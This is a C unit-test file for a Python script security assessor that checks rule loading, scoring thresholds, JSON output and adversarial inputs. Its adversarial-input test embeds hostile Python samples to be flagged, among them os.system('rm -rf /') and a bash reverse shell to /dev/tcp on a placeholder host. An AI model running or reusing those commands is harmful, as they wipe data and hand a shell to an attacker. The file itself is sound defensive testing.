/* The assessor's API: levels and findings of whole sources, rules loaded
 * from security.yaml (errors, disable, re-weight, add, thresholds), the
 * JSON shape, rejections, and adversarial inputs that must stay linear. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "assess.h"
#include "assess_fixture.h"
#include "fileio.h"
#include "testdir.h"


static void assess(const struct assess_rules *rules, const char *src, struct assess_result *r)
{
	assess_source(rules, "t.py", (const uint8_t *)src, strlen(src), r);
}

/* The rule ids of src's findings that start with prefix (every one for ""),
 * each followed by a space, in order, into ids. */
static void finding_ids(const struct assess_rules *rules, const char *src, const char *prefix,
			char *ids, size_t size)
{
	struct assess_result r;
	ids[0] = '\0';
	assess(rules, src, &r);
	for (size_t k = 0; k < r.n_findings; k++)
		if (strcmp(r.findings[k].source, "mai") == 0 &&
		    strncmp(r.findings[k].rule_id, prefix, strlen(prefix)) == 0 &&
		    strlen(ids) + strlen(r.findings[k].rule_id) + 2 <= size)
			strcat(strcat(ids, r.findings[k].rule_id), " ");
	assess_result_clear(&r);
}

static void test_levels_and_finding_fields(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state, NULL, &err);
	struct assess_result r;

	assert_non_null(rules);
	assert_true(assess_rules_count(rules) >= 35);
	assess(rules, "import math\nprint(math.pi)\n", &r);
	assert_int_equal(r.level, LEVEL_LOW);
	assert_int_equal(r.n_findings, 0);
	assert_int_equal(r.metrics.lines, 2);
	assert_int_equal(r.metrics.imports, 1);
	assess_result_clear(&r);

	assess(rules, "import subprocess as sp\n\nsp.run('x', shell=True)\n", &r);
	/* a literal command in a capability-less container: contained */
	assert_int_equal(r.level, LEVEL_MEDIUM);
	/* B404 import, B602 shell, B603 run, B607 'x' is looked up in PATH */
	assert_int_equal(r.n_findings, 4);
	assert_string_equal(r.findings[3].rule_id, "MAI091");
	assert_int_equal(r.findings[3].origin, ASSESS_ORIGIN_LITERAL);
	assert_int_equal(r.findings[0].origin, ASSESS_ORIGIN_NONE); /* an import */
	const struct assess_finding *f = &r.findings[1];
	assert_string_equal(f->rule_id, "MAI005");
	assert_string_equal(f->bandit_id, "B602");
	assert_int_equal(f->severity, ASSESS_SEV_HIGH);
	assert_int_equal(f->confidence, ASSESS_SEV_HIGH);
	assert_int_equal(f->cwe, 78);
	assert_int_equal(f->line, 3);
	assert_int_equal(f->col, 4);
	assert_string_equal(f->message, "subprocess call with shell=True: the command goes through the shell");
	assert_int_equal(f->contained, ASSESS_CONTAINED_PROCESS);
	/* contained: 40 (MEDIUM x HIGH) for the highest (literal arguments:
	 * no origin weight), plus a tenth of 40, 10 and 10 */
	assert_true(r.score > 45.9 && r.score < 46.1);
	assert_null(r.reason); /* it runs: nothing to look at first */
	assess_result_clear(&r);

	assess(rules, "with open('notes.txt', 'a') as f:\n    f.write('x')\n", &r);
	assert_int_equal(r.level, LEVEL_MEDIUM);
	assess_result_clear(&r);

	assess(rules, "import os\nfor i in range(3):\n    for j in range(2):\n        pass\ndef f():\n    return getattr(os, 'sy' 'stem')\n", &r);
	assert_int_equal(r.level, LEVEL_LOW); /* getattr resolved, but nothing is called */
	assert_int_equal(r.metrics.loops, 2);
	assert_int_equal(r.metrics.functions, 1);
	assert_int_equal(r.metrics.max_nesting, 2);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_rejection_and_json(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state, NULL, &err);
	struct assess_result r;
	const uint8_t bad[] = "print('ok')\nx = '\xfe'\n";

	assert_int_equal(assess_source(rules, "t.py", bad, sizeof(bad) - 1, &r), -EINVAL);
	assert_int_equal(r.level, LEVEL_BLOCKED);
	assert_int_equal(r.rejection_offset, 17);
	json_t *j = assess_result_to_json(&r);
	assert_string_equal(json_string_value(json_object_get(j, "level")), "BLOCKED");
	assert_int_equal(json_integer_value(json_object_get(j, "rejection_offset")), 17);
	assert_non_null(strstr(json_string_value(json_object_get(j, "rejection")), "invalid UTF-8"));
	json_decref(j);
	assess_result_clear(&r);

	assess(rules, "import os\nos.system('id')\n", &r);
	j = assess_result_to_json(&r);
	json_t *f = json_array_get(json_object_get(j, "findings"), 0);
	assert_string_equal(json_string_value(json_object_get(f, "rule_id")), "MAI001");
	assert_string_equal(json_string_value(json_object_get(f, "bandit_id")), "B605");
	assert_string_equal(json_string_value(json_object_get(f, "severity")), "HIGH");
	assert_int_equal(json_integer_value(json_object_get(f, "cwe")), 78);
	assert_int_equal(json_integer_value(json_object_get(f, "line")), 2);
	assert_int_equal(json_integer_value(json_object_get(f, "col")), 4);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "metrics"), "statements")), 2);
	json_decref(j);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

static void test_user_rules_change_the_defaults(void **state)
{
	char *err = NULL;
	struct assess_result r;
	struct assess_rules *rules = assess_fixture_load(*state,
		"thresholds: {medium: 5, high: 60, blocked: 95}\n"
		"rules:\n"
		"  - {id: MAI051, enabled: false}\n"
		"  - {id: MAI001, weight: 0.5}\n"
		"  - id: LOCAL001\n"
		"    match: {call: [paramiko.SSHClient]}\n"
		"    severity: HIGH\n"
		"    cwe: 284\n"
		"    message: opens an SSH connection\n"
		"    block: true\n", &err);

	assert_non_null(rules);
	assess(rules, "open('x.txt', 'w')\n", &r);
	assert_int_equal(r.n_findings, 0);
	assess_result_clear(&r);
	assess(rules, "import os\nos.system('id')\n", &r);
	assert_int_equal(r.level, LEVEL_MEDIUM); /* 35 with the weight, under high=60 */
	assess_result_clear(&r);
	assess(rules, "from paramiko import SSHClient\nSSHClient()\n", &r);
	assert_int_equal(r.level, LEVEL_BLOCKED);
	assert_string_equal(r.findings[0].rule_id, "LOCAL001");
	assert_null(r.findings[0].bandit_id);
	assess_result_clear(&r);
	assess_rules_free(rules);
}

/* Call patterns of every shape (exact, prefix, prefix without a module,
 * real globs) in user rules: each rule matches exactly the calls its
 * patterns name, once per call however many of its patterns match. */
static void test_call_patterns_of_every_shape(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state,
		"rules:\n"
		"  - {id: P1, match: {call: [getpass.getpass]}, severity: LOW, message: exact}\n"
		"  - {id: P2, match: {call: [\"getpass.get*\"]}, severity: LOW, message: prefix}\n"
		"  - {id: P3, match: {call: [\"getp*\"]}, severity: LOW, message: no module}\n"
		"  - {id: P4, match: {call: [\"*.getpass\"]}, severity: LOW, message: glob}\n"
		"  - {id: P5, match: {call: [\"getpass.getp?ss\"]}, severity: LOW, message: glob}\n"
		"  - {id: P6, match: {call: [\"getpass.*\", getpass.getpass]}, severity: LOW,"
		" message: twice}\n"
		"  - {id: P7, match: {call: [\"getpassword.*\", getpass]}, severity: LOW,"
		" message: near}\n", &err);
	static const struct {
		const char *src;
		const char *ids;
	} cases[] = {
		{ "import getpass\ngetpass.getpass()\n", "P1 P2 P3 P4 P5 P6 " },
		{ "import getpass\ngetpass.getuser()\n", "P2 P3 P6 " },
		{ "import getpass as g\ng.getpassx()\n", "P2 P3 P6 " },
		{ "import os\nos.getpid()\n", "" },
	};

	assert_non_null(rules);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char ids[64];
		finding_ids(rules, cases[i].src, "P", ids, sizeof(ids));
		assert_string_equal(ids, cases[i].ids);
	}
	assess_rules_free(rules);
}

/* A method of an object nobody can name (".NAME") meets the "*.NAME"
 * patterns, and the other patterns that may name it too: a glob ("*.x?y"),
 * a prefix ("*.xy*") and a suffix ("*y"), which are tried for every call.
 * The analyzer only reports the methods some rule may want, so a rule set
 * with such globs must want them all. The names here are ones no built-in
 * rule names. */
static void test_method_globs_of_unnamed_objects(void **state)
{
	char *err = NULL;
	struct assess_result r;
	struct assess_rules *rules = assess_fixture_load(*state,
		"rules:\n"
		"  - {id: Q1, match: {call: [\"*.fetchp?ss\"]}, severity: LOW, message: glob}\n"
		"  - {id: Q2, match: {call: [\"*.fetchu*\"]}, severity: LOW, message: prefix}\n"
		"  - {id: Q3, match: {call: [\"*etchpass\"]}, severity: LOW, message: suffix}\n", &err);
	static const struct {
		const char *src;
		const char *ids;
	} cases[] = {
		{ "def f(o):\n    o.fetchpass()\n", "Q1 Q3 " },
		{ "[].fetchpass()\n", "Q1 Q3 " },
		{ "(a + b).fetchuser()\n", "Q2 " },
		{ "(a + b).fetchpast()\n", "" },
	};

	assert_non_null(rules);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char ids[64] = "";
		assess(rules, cases[i].src, &r);
		for (size_t k = 0; k < r.n_findings; k++)
			if (r.findings[k].rule_id[0] == 'Q' && strlen(ids) + 4 < sizeof(ids))
				strcat(strcat(ids, r.findings[k].rule_id), " ");
		assert_string_equal(ids, cases[i].ids);
		assess_result_clear(&r);
	}
	assess_rules_free(rules);
}

/* A rule's lists are read to their end: every unless_kwarg entry spares
 * a call, every string text is found (the index of first bytes and lengths
 * included); path: local is a known value. Findings come sorted by line,
 * then column, whatever order the analyzer met them in. */
static void test_rule_lists_and_finding_order(void **state)
{
	char *err = NULL;
	struct assess_result r;
	struct assess_rules *rules = assess_fixture_load(*state,
		"rules:\n"
		"  - {id: U1, match: {call: [frob.run], unless_kwarg: [safe=True, dry=True]},"
		" severity: LOW, message: run}\n"
		"  - {id: U2, match: {string: [alpha-secret, zz-other-long-secret-text]},"
		" severity: LOW, message: secret}\n"
		"  - {id: U3, match: {call: [frob.load], path: local}, severity: LOW, message: load}\n",
		&err);
	static const struct {
		const char *src;
		const char *ids;
	} cases[] = {
		{ "import frob\nfrob.run()\n", "U1 " },
		{ "import frob\nfrob.run(safe=True)\n", "" },
		{ "import frob\nfrob.run(dry=True)\n", "" },
		{ "x = 'alpha-secret'\n", "U2 " },
		{ "x = 'zz-other-long-secret-text'\n", "U2 " },
		{ "x = 'zz-other'\n", "" },
		{ "import frob\nfrob.load('notes.txt')\n", "U3 " },
	};

	if (!rules)
		fail_msg("%s", err);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char ids[64] = "";
		assess(rules, cases[i].src, &r);
		for (size_t k = 0; k < r.n_findings; k++)
			if (r.findings[k].rule_id[0] == 'U' && strlen(ids) + 4 < sizeof(ids))
				strcat(strcat(ids, r.findings[k].rule_id), " ");
		assert_string_equal(ids, cases[i].ids);
		assess_result_clear(&r);
	}
	/* eval is met before the os.system around it, on its line or below */
	static const char *const nested[] = {
		"import os\nos.system(eval(input()))\n",
		"import os\nos.system(\n    eval(input()))\n",
	};
	for (size_t i = 0; i < ARRAY_SIZE(nested); i++) {
		assess(rules, nested[i], &r);
		assert_true(r.n_findings >= 2);
		for (size_t k = 1; k < r.n_findings; k++)
			assert_true(r.findings[k - 1].line < r.findings[k].line ||
				    (r.findings[k - 1].line == r.findings[k].line &&
				     r.findings[k - 1].col <= r.findings[k].col));
		assess_result_clear(&r);
	}
	assess_rules_free(rules);
}

static void expect_error(const char *dir, const char *yaml, const char *tail)
{
	char *err = NULL;
	assert_null(assess_fixture_load(dir, yaml, &err));
	assert_non_null(err);
	_cleanup_free_ char *want = xasprintf("%s/security.yaml:%s", dir, tail);
	assert_string_equal(err, want);
	free(err);
}

/* A finding's score is its severity's factor (LOW 1, MEDIUM 4, HIGH 7,
 * CRITICAL 10) times its confidence's (LOW 3, MEDIUM 6, HIGH 10), times
 * the rule's weight: Bandit's and Semgrep's findings are scored
 * by the same table. */
static void test_scores_of_severity_and_confidence(void **state)
{
	static const struct {
		const char *severity, *confidence;
		double score;
	} cases[] = {
		{ "LOW", "HIGH", 10 }, { "MEDIUM", "HIGH", 40 }, { "HIGH", "HIGH", 70 },
		{ "CRITICAL", "HIGH", 100 }, { "HIGH", "MEDIUM", 42 },
		{ "HIGH", "LOW", 21 }, { "MEDIUM", "LOW", 12 },
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char *err = NULL;
		struct assess_result r;
		_cleanup_free_ char *yaml = xasprintf(
			"rules:\n  - {id: S1, match: {call: [frob.nicate]}, severity: %s,"
			" confidence: %s, message: m}\n", cases[i].severity, cases[i].confidence);
		struct assess_rules *rules = assess_fixture_load(*state, yaml, &err);
		if (!rules)
			fail_msg("%s: %s", yaml, err);
		assess(rules, "import frob\nfrob.nicate()\n", &r);
		assert_int_equal(r.n_findings, 1);
		assert_true(r.findings[0].score == cases[i].score);
		assess_result_clear(&r);
		assess_rules_free(rules);
	}
}

/* A script whose score is a threshold is at that threshold's level, each
 * of the three thresholds read from security.yaml; weights from 0 to 100
 * are accepted, their ends included. frob.nicate() scores 70 (HIGH, HIGH
 * confidence) and is the script's only finding. */
static void test_thresholds_and_weights_inclusive(void **state)
{
	static const struct {
		const char *yaml;
		enum level level;
	} cases[] = {
#define S1 "rules:\n  - {id: S1, match: {call: [frob.nicate]}, severity: HIGH, message: m"
		{ "thresholds: {medium: 70, high: 80, blocked: 90}\n" S1 "}\n", LEVEL_MEDIUM },
		{ "thresholds: {medium: 10, high: 70, blocked: 90}\n" S1 "}\n", LEVEL_HIGH },
		{ "thresholds: {medium: 10, high: 20, blocked: 70}\n" S1 "}\n", LEVEL_BLOCKED },
		{ "thresholds: {medium: 71, high: 80, blocked: 90}\n" S1 "}\n", LEVEL_LOW },
		{ "rules:\n  - {id: S1, match: {call: frob.nicate}, severity: HIGH, message: m}\n",
		  LEVEL_HIGH }, /* one name without a list */
		{ S1 ", weight: 0}\n", LEVEL_LOW },
		{ S1 ", weight: 100}\n", LEVEL_BLOCKED },
#undef S1
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char *err = NULL;
		struct assess_result r;
		struct assess_rules *rules = assess_fixture_load(*state, cases[i].yaml, &err);
		if (!rules)
			fail_msg("%s: %s", cases[i].yaml, err);
		assess(rules, "import frob\nfrob.nicate()\n", &r);
		assert_int_equal(r.n_findings, 1);
		assert_int_equal(r.level, cases[i].level);
		assess_result_clear(&r);
		assess_rules_free(rules);
	}
	/* Many findings under the medium threshold keep the script LOW: the
	 * others add at most 9.9 and never cross into the next level. */
	char *err = NULL;
	struct assess_result r;
	struct assess_rules *rules = assess_fixture_load(*state, "thresholds: {medium: 15, high: 80, blocked: 90}\n"
					  "rules:\n  - {id: S1, match: {call: [frob.nicate]}, severity: LOW,"
					  " message: m}\n", &err);
	if (!rules)
		fail_msg("%s", err);
	assess(rules, "import frob\nfor i in range(3):\n    frob.nicate(1)\n    frob.nicate(2)\n"
		      "    frob.nicate(3)\n    frob.nicate(4)\n    frob.nicate(5)\n    frob.nicate(6)\n", &r);
	assert_int_equal(r.n_findings, 6);
	assert_int_equal(r.level, LEVEL_LOW);
	assert_true(r.score > 14.8 && r.score < 15);
	assess_result_clear(&r);
	assess_rules_free(rules);
	expect_error(*state, "rules:\n  - {id: MAI001, weight: 100.5}\n",
		     "2:26: bad weight; expected a number from 0 to 100");
	expect_error(*state, "rules:\n  - {id: MAI001, weight: -0.5}\n",
		     "2:26: bad weight; expected a number from 0 to 100");
}

static void test_rule_errors_are_positioned(void **state)
{
	expect_error(*state, "rules:\n  - id: X1\n    sevrity: HIGH\n",
		     "3:5: unknown rule key; expected id, bandit, match, severity, confidence, cwe, "
		     "message, block, enabled, weight, origin_weights or contained");
	expect_error(*state, "rules:\n  - {id: MAI001, severity: SEVERE}\n",
		     "2:28: unknown level; expected LOW, MEDIUM, HIGH or CRITICAL");
	expect_error(*state, "rules:\n  - id: X2\n    severity: LOW\n    message: m\n",
		     "2:5: new rule is incomplete; expected severity, message and a match with call, "
		     "import, special or string");
	expect_error(*state, "rules:\n  - {id: X3, match: {calls: [a]}}\n",
		     "2:22: unknown match key; expected call, import, special, dynamic, in_loop, "
		     "kwarg, unless_kwarg, write_mode, path, arg_contains, arg_ref, not_call, "
		     "kwarg_true, has_kwarg, lacks_kwarg, mode, partial_path, arg_glob, string, taint, "
		     "not_arg_ref, program or decoded");
	expect_error(*state, "rules: {}\n", "1:8: rules is not a list; expected a list of rules (- id: ...)");
	expect_error(*state, "rules:\n  - {id: MAI001, message: [a, b]}\n",
		     "2:27: not a single value; expected a scalar");
	expect_error(*state, "rules:\n  - {id: MAI001, bandit: X602}\n",
		     "2:26: not a Bandit test id; expected B followed by 3 digits (B602)");
	expect_error(*state, "- a\n- b\n", "1:1: the file is not a mapping; expected keys such as rules, thresholds");
	expect_error(*state, "thresholds: {medium: 60, high: 50}\n",
		     "1:13: thresholds out of order; expected medium < high < blocked");
	/* equal thresholds are out of order too: a level would be empty */
	expect_error(*state, "thresholds: {medium: 50, high: 50}\n",
		     "1:13: thresholds out of order; expected medium < high < blocked");
	expect_error(*state, "thresholds: {high: 90, blocked: 90}\n",
		     "1:13: thresholds out of order; expected medium < high < blocked");

	/* A list of one may be written as its one string. */
	char *err = NULL;
	struct assess_result r;
	struct assess_rules *rules = assess_fixture_load(*state, "rules:\n  - {id: S1, match: {call: frob.nicate},"
					  " severity: HIGH, message: m}\n", &err);
	if (!rules)
		fail_msg("%s", err);
	assess(rules, "import frob\nfrob.nicate()\n", &r);
	assert_int_equal(r.n_findings, 1);
	assert_string_equal(r.findings[0].rule_id, "S1");
	assess_result_clear(&r);
	assess_rules_free(rules);
}

/* Adversarial inputs: each must finish (the suite's timeout bounds it) without
 * recursion, and what follows the hostile part must still be analyzed. */
static void test_adversarial_inputs_stay_linear(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state, NULL, &err);
	struct assess_result r;
	const size_t big = 10u * 1024 * 1024;
	char *buf = xmalloc(big + 128);
	size_t n = 0;

	/* a 10 MB one-line string */
	memcpy(buf, "x = '", 5);
	n = 5;
	memset(buf + n, 'a', big);
	n += big;
	n += (size_t)sprintf(buf + n, "'; import os, sys; os.system(x + sys.argv[1])\n");
	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
	assert_int_equal(r.level, LEVEL_HIGH); /* outside data reaches a shell: MAI102 */
	assert_int_equal(r.metrics.lines, 1);
	assess_result_clear(&r);

	/* 100,000 nested brackets, then a call */
	n = 0;
	n += (size_t)sprintf(buf, "import os\nx = ");
	for (int i = 0; i < 100000; i++)
		buf[n++] = '(';
	buf[n++] = '1';
	for (int i = 0; i < 100000; i++)
		buf[n++] = ')';
	n += (size_t)sprintf(buf + n, "\nos.system('rm -rf /')\n");
	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
	assert_int_equal(r.level, LEVEL_BLOCKED); /* MAI109 */
	assert_int_equal(r.findings[0].line, 3);
	assess_result_clear(&r);

	/* a call buried inside 5,000 brackets is still found */
	n = (size_t)sprintf(buf, "import os\nx = ");
	for (int i = 0; i < 5000; i++)
		buf[n++] = '[';
	n += (size_t)sprintf(buf + n, "os.system('bash -i >& /dev/tcp/h/1 0>&1')");
	for (int i = 0; i < 5000; i++)
		buf[n++] = ']';
	buf[n++] = '\n';
	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
	assert_int_equal(r.level, LEVEL_BLOCKED); /* MAI107 */
	assess_result_clear(&r);
	free(buf);

	/* 1,000,000 lines */
	const char line[] = "y = y + 1\n";
	size_t total = 1000000 * (sizeof(line) - 1);
	buf = xmalloc(total + 64);
	for (size_t i = 0; i < 1000000; i++)
		memcpy(buf + i * (sizeof(line) - 1), line, sizeof(line) - 1);
	n = total + (size_t)sprintf(buf + total, "eval(y)\n");
	assess_source(rules, "t.py", (const uint8_t *)buf, n, &r);
	assert_int_equal(r.metrics.lines, 1000001);
	assert_int_equal(r.metrics.statements, 1000001);
	assert_int_equal(r.level, LEVEL_MEDIUM); /* eval of a value nobody typed in: contained */
	assert_int_equal(r.findings[0].line, 1000001);
	assess_result_clear(&r);
	free(buf);
	assess_rules_free(rules);
}

/* security.max_findings: a script with thousands of findings gets a result
 * that lists the cap's worth, the most severe among them, and says how many
 * it left out; the level still counts them all. */
static void test_findings_capped_as_configured(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state, NULL, &err);
	struct assess_result r;
	const unsigned n = 3000;
	size_t len = 0, cap = (size_t)n * 32 + 64;
	char *src = xmalloc(cap);

	assert_non_null(rules);
	for (unsigned i = 0; i < n; i++)
		len += (size_t)snprintf(src + len, cap - len, "open('f%u.txt', 'a')\n", i);
	len += (size_t)snprintf(src + len, cap - len, "eval(input())\n");
	assess(rules, src, &r);
	assert_true(r.n_findings > n); /* every one is counted */
	enum level level = r.level;
	double score = r.score;
	json_t *j = assess_result_to_json(&r);
	json_t *fs = json_object_get(j, "findings");
	assert_int_equal(json_array_size(fs), ASSESS_MAX_FINDINGS_DEFAULT);
	assert_int_equal(json_integer_value(json_object_get(j, "max_findings")), ASSESS_MAX_FINDINGS_DEFAULT);
	assert_int_equal(json_integer_value(json_object_get(j, "findings_total")), (json_int_t)r.n_findings);
	assert_int_equal(json_integer_value(json_object_get(j, "findings_dropped")),
			 (json_int_t)(r.n_findings - ASSESS_MAX_FINDINGS_DEFAULT));
	/* The eval on the last line is the most severe: it is listed, and the
	 * list stays in line order. */
	json_t *last = json_array_get(fs, json_array_size(fs) - 1);
	assert_int_equal(json_integer_value(json_object_get(last, "line")), n + 1);
	for (size_t i = 1; i < json_array_size(fs); i++)
		assert_true(json_integer_value(json_object_get(json_array_get(fs, i - 1), "line")) <=
			    json_integer_value(json_object_get(json_array_get(fs, i), "line")));
	json_decref(j);
	assess_result_clear(&r);

	/* A configured cap; the level and score do not depend on it. */
	assess_rules_set_max_findings(rules, 5);
	assess(rules, src, &r);
	assert_int_equal(r.level, level);
	assert_true(r.score == score);
	j = assess_result_to_json(&r);
	assert_int_equal(json_array_size(json_object_get(j, "findings")), 5);
	assert_int_equal(json_integer_value(json_object_get(j, "findings_dropped")), (json_int_t)r.n_findings - 5);
	/* Among findings of equal weight (the 3000 open() calls) the earliest
	 * lines are kept, the eval after them. */
	static const json_int_t kept[] = { 1, 2, 3, 4, n + 1 };
	for (size_t i = 0; i < ARRAY_SIZE(kept); i++)
		assert_int_equal(json_integer_value(json_object_get(
					 json_array_get(json_object_get(j, "findings"), i), "line")), kept[i]);
	json_decref(j);
	assess_result_clear(&r);

	/* A finding that forces BLOCKED (a bidirectional control, on the last
	 * line) is kept before any other, however many come earlier. */
	assess_rules_set_max_findings(rules, 2);
	assess(rules, "open('a', 'a')\neval(input())\nopen('b', 'a')\nx = 1  # \xe2\x80\xae\n", &r);
	assert_int_equal(r.level, LEVEL_BLOCKED);
	j = assess_result_to_json(&r);
	fs = json_object_get(j, "findings");
	assert_int_equal(json_array_size(fs), 2);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(fs, 0), "line")), 2);
	assert_string_equal(json_string_value(json_object_get(json_array_get(fs, 1), "rule_id")), "MAI080");
	json_decref(j);
	assess_result_clear(&r);

	/* Under the cap nothing is said. */
	assess(rules, "eval(input())\n", &r);
	j = assess_result_to_json(&r);
	assert_int_equal(json_array_size(json_object_get(j, "findings")), r.n_findings);
	assert_null(json_object_get(j, "findings_dropped"));
	json_decref(j);
	assess_result_clear(&r);
	free(src);
	assess_rules_free(rules);
}

/* Names the analyzer follows through globals() and sys.modules by a
 * literal key, and the computed key it reports; and what "with ... as"
 * binds: a plain name holds the value, a tuple's names become locals, an
 * attribute or item target binds nothing (the module stays the module). */
static void test_computed_names_and_with_targets(void **state)
{
	char *err = NULL;
	struct assess_rules *rules = assess_fixture_load(*state, NULL, &err);
	static const struct {
		const char *src;
		const char *ids; /* the native findings' rule ids, in order */
	} cases[] = {
		{ "name = input()\nglobals().get(name)()\n", "MAI013 " },
		{ "globals().get(\"eval\")(\"1+1\")\n", "MAI010 MAI014 " },
		{ "import sys\nsys.modules.get(\"os\").system(\"ls\")\n", "MAI001 MAI014 MAI091 " },
		{ "import os\nwith open(\"/dev/null\") as os.handle:\n    pass\nos.system(\"ls\")\n",
		  "MAI001 MAI091 " },
		{ "import os\nwith open(\"/dev/null\") as d[os]:\n    pass\nos.system(\"ls\")\n",
		  "MAI001 MAI091 " },
		{ "import os\nwith open(\"/dev/null\") as (a, os):\n    pass\nos.system(\"ls\")\n", "" },
		{ "import os\nwith open(\"/dev/null\") as os:\n    pass\nos.system(\"ls\")\n", "" },
		{ "import tarfile\nwith tarfile.open(\"x.tar\") as t, open(\"y\") as f:\n    t.extractall()\n",
		  "MAI047 " },
		/* the same targets in assignments */
		{ "import os\nd = {}\nd[os] = 1\nos.system(\"ls\")\n", "MAI001 MAI091 " },
		{ "import os\nd = {}\nd[os, 1], x = 1, 2\nos.system(\"ls\")\n", "MAI001 MAI091 " },
		{ "import os\n[a, (b, os)] = 1, (2, 3)\nos.system(\"ls\")\n", "" },
	};

	assert_non_null(rules);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		char ids[96];
		finding_ids(rules, cases[i].src, "", ids, sizeof(ids));
		if (strcmp(ids, cases[i].ids) != 0)
			fail_msg("case %zu: %s\n got '%s', expected '%s'", i, cases[i].src, ids, cases[i].ids);
	}
	assess_rules_free(rules);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_levels_and_finding_fields, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_computed_names_and_with_targets, testdir_setup,
						testdir_teardown),
		cmocka_unit_test_setup_teardown(test_rejection_and_json, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_findings_capped_as_configured, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_user_rules_change_the_defaults, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_call_patterns_of_every_shape, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_method_globs_of_unnamed_objects, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_scores_of_severity_and_confidence, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_thresholds_and_weights_inclusive, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_rule_lists_and_finding_order, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_rule_errors_are_positioned, testdir_setup, testdir_teardown),
		cmocka_unit_test_setup_teardown(test_adversarial_inputs_stay_linear, testdir_setup, testdir_teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
